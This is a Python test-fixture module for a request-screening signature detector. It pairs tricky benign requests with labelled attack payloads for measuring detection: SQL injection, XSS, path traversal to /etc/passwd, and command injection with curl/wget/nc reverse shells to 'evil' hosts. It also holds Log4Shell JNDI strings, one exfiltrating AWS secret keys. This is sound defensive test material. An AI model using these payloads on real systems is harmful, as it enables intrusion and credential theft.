"""Benign and attack requests for the signature screen's false-positive and detection figures.

The benign set is deliberately hard: names with quotes, search queries that read like SQL or
shell, code and markup in JSON bodies, real browser headers. The figures measured on it are
pinned in test_signatures.py and quoted in docs/request-aware.md.
"""

from __future__ import annotations

from urllib.parse import quote, quote_plus

from balancekit import Request

BROWSER = {
    "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/120.0.0.0 Safari/537.36",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
    "Accept-Language": "en-GB,en;q=0.9,fr;q=0.8",
    "Accept-Encoding": "gzip, deflate, br",
    "Cookie": "session=3f9a1c; theme=dark; consent=1; id=42",
    "Referer": "https://shop.example/search?q=red+shoes&page=2",
}

BENIGN_QUERIES = [
    "O'Brien",
    "D'Angelo & Sons",
    "Conan O'Brien's show",
    "rock 'n' roll",
    "it's a 'test'",
    "select a plan",
    "Select your country",
    "drop-down menu",
    "drop shipping",
    "delete my account",
    "update billing address",
    "insert coin",
    "union station",
    "Union Jack flag",
    "credit union rates",
    "sleep (2020 film)",
    "sleep apnea",
    "benchmark results 2024",
    "wait for delay",
    "1=1 math proof",
    "x or y = z",
    "true or false",
    "either or",
    "this and that",
    "cats | dogs",
    "tom & jerry",
    "dogs; cat food",
    "ls river",
    "cat videos",
    "curl hair",
    "who am i",
    "id card",
    "ping pong",
    "echo dot",
    "rm -rf explained",
    "<3 love",
    "a < b > c",
    "2 < 3",
    "C# vs C++",
    "50% off",
    "100%",
    "what is 5%2B5",
    "javascript: the good parts",
    "eval() in python",
    "alert system",
    "prompt engineering",
    "confirm (email)",
    "document.pdf",
    "window cleaning",
    "script writing",
    "../ meaning",
    "...and then",
    "etc/passwd meaning",
    "how to use .env files",
    "git ignore",
    "${price} template",
    "$100",
    "email@example.com",
    "#hashtag",
    "--verbose flag",
    "élève café naïve",
    "日本語 テスト",
    "emoji 🎉",
    "SELECT * FROM docs tutorial",
    "from A to B",
    "where to go",
    "table for two",
    "order by price",
    "group by size",
    # Questions about attacks read like attacks: expected false positives, documented.
    "union select syntax",
    "<script> tag tutorial",
]

BENIGN_PATHS = [
    "/",
    "/index.html",
    "/api/v1/users/42",
    "/static/app.9f3c.js",
    "/images/o'brien.png",
    "/blog/2024/01/why-select-matters",
    "/docs/union-types",
    "/search",
    "/a/b/c/d/e/f",
    "/files/report%20final.pdf",
    "/.well-known/acme-challenge/token",
    "/users/me/settings",
    "/download/v1.2.3/",
    "/en-us/products/drop-in-filter",
    "/wiki/C%2B%2B",
    "/wiki/Category:Lists",
]

BENIGN_BODIES = [
    b'{"name": "O\'Brien", "comment": "I\'d like to select a plan; drop me a line"}',
    b'{"color": "#fff", "query": "a=1 and b=2", "range": "1--5"}',
    b"name=John+O%27Brien&message=Hello%2C+can+I+update+my+order%3F",
    b'{"template": "Hello ${name}", "price": "$5"}',
    b'{"markdown": "Use `git status` and then `git diff`"}',
    b'{"html": "<p>Hello <b>world</b></p>", "note": "see docs/union"}',
    b'{"code": "function f() { return a || b; }", "vars": {"or": 1, "and": 2}}',
]


def benign_requests() -> list[Request]:
    """Every benign request: queries as ?q=, paths, bodies, each with browser headers."""
    out = [
        Request(path="/search", query="q=" + quote_plus(q), headers=BROWSER) for q in BENIGN_QUERIES
    ]
    out += [
        Request(path="/search", query="q=" + quote(q, safe=""), headers=BROWSER)
        for q in BENIGN_QUERIES[:20]
    ]
    out += [Request(path=p, headers=BROWSER) for p in BENIGN_PATHS]
    for body in BENIGN_BODIES:
        kind = (
            "application/x-www-form-urlencoded" if body.startswith(b"name=") else "application/json"
        )
        out.append(
            Request(
                method="POST",
                path="/api/comments",
                headers={**BROWSER, "Content-Type": kind},
                body=body,
            )
        )
    return out


ATTACKS: list[tuple[str, Request]] = [
    # SQL injection
    ("sqli", Request(query="id=1%27%20OR%20%271%27%3D%271")),
    ("sqli", Request(query="id=1+or+1%3D1")),
    ("sqli", Request(query="user=admin%27--")),
    ("sqli", Request(query="id=1 UNION SELECT username, password FROM users")),
    ("sqli", Request(query="id=1/**/UNION/**/ALL/**/SELECT/**/1,2")),
    ("sqli", Request(query="id=1%2520union%2520select%25201")),
    ("sqli", Request(query="id=1;DROP TABLE users")),
    ("sqli", Request(query="id=1' AND SLEEP(5)--")),
    ("sqli", Request(query="id=1;WAITFOR DELAY '0:0:5'")),
    ("sqli", Request(query="q=1' and benchmark(1000000,md5(1))#")),
    ("sqli", Request(query="id=1 and 1=1")),
    ("sqli", Request(query="id=-1 union select table_name from information_schema.tables")),
    (
        "sqli",
        Request(
            method="POST",
            body=b"user=x%27+or+%27a%27%3D%27a&pw=x",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        ),
    ),
    ("sqli", Request(headers={"Cookie": "id=1' or 'x'='x"})),
    # XSS
    ("xss", Request(query="q=<script>alert(1)</script>")),
    ("xss", Request(query="q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")),
    ("xss", Request(query="q=%253Cscript%253E")),
    ("xss", Request(query='q="><img src=x onerror=alert(1)>')),
    ("xss", Request(query="q=<svg/onload=alert(1)>")),
    ("xss", Request(query="url=javascript:alert(1)")),
    ("xss", Request(query="q=&lt;script&gt;alert(1)&lt;/script&gt;")),
    ("xss", Request(query="q=<iframe src=//evil>")),
    ("xss", Request(query="q=<body onload=prompt(1)>")),
    ("xss", Request(method="POST", body=b'{"bio": "<ScRiPt>fetch(1)</sCrIpT>"}')),
    ("xss", Request(headers={"Referer": "https://x/?q=<script>alert('x')</script>"})),
    # Path traversal / LFI
    ("lfi", Request(path="/../../etc/passwd")),
    ("lfi", Request(path="/static/..%2f..%2fetc%2fpasswd")),
    ("lfi", Request(path="/files/%252e%252e%252f%252e%252e%252fwin.ini")),
    ("lfi", Request(path="/download", query="file=....//....//etc/shadow")),
    ("lfi", Request(path="/download", query="file=..\\..\\boot.ini")),
    ("lfi", Request(path="/.env")),
    ("lfi", Request(path="/.git/config")),
    ("lfi", Request(path="/x", query="page=/proc/self/environ")),
    # Command injection
    ("rce", Request(query="host=127.0.0.1;cat /etc/passwd")),
    ("rce", Request(query="host=127.0.0.1|id")),
    ("rce", Request(query="host=127.0.0.1%26%26whoami")),
    ("rce", Request(query="f=$(curl http://evil/x.sh)")),
    ("rce", Request(query="f=`uname -a`")),
    ("rce", Request(query="cmd=;wget evil.example/x.sh")),
    ("rce", Request(query="x=;/bin/bash -i")),
    ("rce", Request(method="POST", body=b'{"host": "8.8.8.8 && nc -e /bin/sh evil 4444"}')),
    ("rce", Request(query="run=cmd.exe /c dir")),
    ("rce", Request(headers={"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"})),
    # Log4Shell
    ("log4shell", Request(headers={"User-Agent": "${jndi:ldap://evil.example/a}"})),
    ("log4shell", Request(headers={"X-Api-Version": "${${lower:j}ndi:${lower:l}dap://evil/a}"})),
    ("log4shell", Request(headers={"User-Agent": "${${::-j}${::-n}${::-d}${::-i}:rmi://evil/x}"})),
    ("log4shell", Request(headers={"User-Agent": "${j${env:BARFOO:-n}di:ldap://evil/x}"})),
    ("log4shell", Request(query="q=%24%7Bjndi%3Adns%3A%2F%2Fevil%7D")),
    (
        "log4shell",
        Request(headers={"X-Forwarded-For": "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil}"}),
    ),
    ("log4shell", Request(headers={"Referer": "${${upper:j}ndi:ldap://evil/a}"})),
]
